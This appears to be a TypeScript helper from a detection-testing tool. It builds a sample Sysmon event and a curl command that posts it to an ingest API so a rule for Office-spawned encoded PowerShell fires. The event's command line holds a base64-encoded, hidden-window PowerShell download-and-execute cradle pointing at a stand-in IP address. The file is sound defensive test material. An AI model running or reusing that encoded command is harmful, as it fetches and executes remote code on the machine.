// An event that our own rule pack finds: `content/rules/windows/office_powershell_encoded_fetch.yml`.

const EVENT = {
  EventID: 1,
  Channel: "Microsoft-Windows-Sysmon/Operational",
  SourceName: "Microsoft-Windows-Sysmon",
  Hostname: "PC-01.example.org",
  Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  OriginalFileName: "PowerShell.EXE",
  CommandLine:
    "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADkALwBhACcAKQA=",
  ParentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
};

/** Where this browser finds the listener: one that listens everywhere is found where the page came from. */
export function reachable(ingestUrl: string, pageHost: string): string {
  return ingestUrl.replace(/\/\/(0\.0\.0\.0|\[::\])(?=:)/, `//${pageHost}`);
}

/** A command for a shell. The event's time is now, as that of a sensor would be. */
export function curlLine(ingestUrl: string, token: string, now = new Date()): string {
  const event = JSON.stringify({ "@timestamp": now.toISOString().slice(0, 19) + "Z", ...EVENT });
  return `curl ${ingestUrl}/api/v1/events -H 'Authorization: Bearer ${token}' --data-binary '${event}'`;
}
